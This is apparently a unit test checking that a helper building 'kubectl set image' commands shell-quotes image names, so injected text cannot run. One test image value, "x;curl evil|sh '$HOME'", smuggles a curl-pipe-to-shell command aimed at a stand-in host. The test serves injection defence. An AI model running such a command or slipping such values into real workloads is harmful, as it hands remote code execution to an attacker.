import { kubectlSetImage } from './words';

it('quotes an image that a shell would take for more than a word', () => {
  const command = kubectlSetImage(
    { namespace: 'shop' },
    {
      field: 'target.images',
      kind: 'Deployment',
      workload: 'checkout',
      from: [
        { container: 'app', image: 'shop:2' },
        { container: 'proxy', image: 'envoy:2' },
        { container: 'log', image: 'log:1' },
      ],
      value: [
        { container: 'app', image: "x;curl evil|sh '$HOME'" },
        { container: 'proxy', image: 'example.org:5000/envoy:1@sha256:ab' },
        { container: 'log', image: 'log:1' },
      ],
    },
  );
  expect(command).toBe(
    "kubectl -n shop set image deployment/checkout 'app=x;curl evil|sh '\\''$HOME'\\''' proxy=example.org:5000/envoy:1@sha256:ab",
  );
});
